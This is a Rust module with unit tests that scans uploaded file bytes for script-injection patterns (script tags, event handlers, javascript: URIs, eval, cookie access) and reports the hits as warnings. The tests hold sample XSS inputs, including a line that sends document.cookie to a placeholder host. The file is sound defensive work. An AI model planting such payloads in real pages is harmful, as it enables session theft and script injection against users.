//! Script-injection pattern scanning.
//!
//! Hits are advisory. Compressed image data produces coincidental matches
//! often enough that a hit never rejects a file on its own.

use regex::bytes::Regex;
use std::sync::LazyLock;

/// Pattern families, searched case-insensitively over the entire buffer.
const PATTERN_SOURCES: &[(&str, &str)] = &[
    ("script tag", r"(?i-u)<\s*script(?:\s|>|/)"),
    (
        "event handler attribute",
        r"(?i-u)\bon(?:load|error|click|dblclick|mouseover|mouseout|mouseenter|focus|blur|submit|change|input|keydown|keyup|keypress|animationstart|toggle)\s*=",
    ),
    ("javascript URI", r"(?i-u)javascript\s*:"),
    ("vbscript URI", r"(?i-u)vbscript\s*:"),
    ("dynamic evaluation", r"(?i-u)\b(?:eval|execScript)\s*\(|\bnew\s+Function\s*\("),
    ("cookie access", r"(?i-u)document\s*\.\s*cookie"),
];

static PATTERNS: LazyLock<Vec<(&'static str, Regex)>> = LazyLock::new(|| {
    PATTERN_SOURCES
        .iter()
        .map(|(name, source)| {
            let regex = Regex::new(source).expect("built-in pattern must compile");
            (*name, regex)
        })
        .collect()
});

/// First match of one pattern family.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PatternHit {
    pub name: &'static str,
    pub offset: usize,
}

impl PatternHit {
    pub fn warning(&self) -> String {
        format!(
            "Suspicious pattern detected: {} at offset {}",
            self.name, self.offset
        )
    }
}

#[derive(Debug, Default, Clone, Copy)]
pub struct PatternScanner;

impl PatternScanner {
    /// At most one hit per family, in pattern table order.
    pub fn scan(&self, bytes: &[u8]) -> Vec<PatternHit> {
        PATTERNS
            .iter()
            .filter_map(|(name, regex)| {
                regex.find(bytes).map(|m| PatternHit {
                    name: *name,
                    offset: m.start(),
                })
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(bytes: &[u8]) -> Vec<&'static str> {
        PatternScanner.scan(bytes).into_iter().map(|h| h.name).collect()
    }

    #[test]
    fn all_patterns_compile() {
        assert_eq!(PATTERNS.len(), PATTERN_SOURCES.len());
    }

    #[test]
    fn clean_content_has_no_hits() {
        assert!(names(b"A perfectly ordinary caption for a photo.").is_empty());
        assert!(names(&[0xAA; 4096]).is_empty());
    }

    #[test]
    fn detects_script_tags_case_insensitively() {
        assert_eq!(names(b"xx<ScRiPt>alert(1)</script>"), vec!["script tag"]);
        assert_eq!(names(b"< script src=x>"), vec!["script tag"]);
        assert!(names(b"<scripts are fun").is_empty());
    }

    #[test]
    fn detects_event_handlers_and_schemes() {
        assert_eq!(
            names(b"<img src=x OnError = \"x()\">"),
            vec!["event handler attribute"]
        );
        assert_eq!(names(b"<a href=\"JavaScript:void(0)\">"), vec!["javascript URI"]);
        assert_eq!(names(b"vbscript:msgbox"), vec!["vbscript URI"]);
        assert!(names(b"condition = online").is_empty());
    }

    #[test]
    fn detects_eval_and_cookie_access() {
        assert_eq!(names(b"eval (atob('x'))"), vec!["dynamic evaluation"]);
        assert_eq!(names(b"new Function('return 1')"), vec!["dynamic evaluation"]);
        assert_eq!(names(b"fetch('//x?c=' + document.cookie)"), vec!["cookie access"]);
        assert!(names(b"medieval (times)").is_empty());
    }

    #[test]
    fn matches_inside_binary_data() {
        let mut bytes = vec![0xFF, 0x00, 0x9C];
        bytes.extend_from_slice(b"<script>document.cookie</script>");
        bytes.extend_from_slice(&[0xFE, 0x01]);

        let hits = PatternScanner.scan(&bytes);
        assert_eq!(hits.len(), 2);
        assert_eq!(hits[0].name, "script tag");
        assert_eq!(hits[0].offset, 3);
        assert_eq!(hits[1].name, "cookie access");
        assert_eq!(
            hits[0].warning(),
            "Suspicious pattern detected: script tag at offset 3"
        );
    }
}
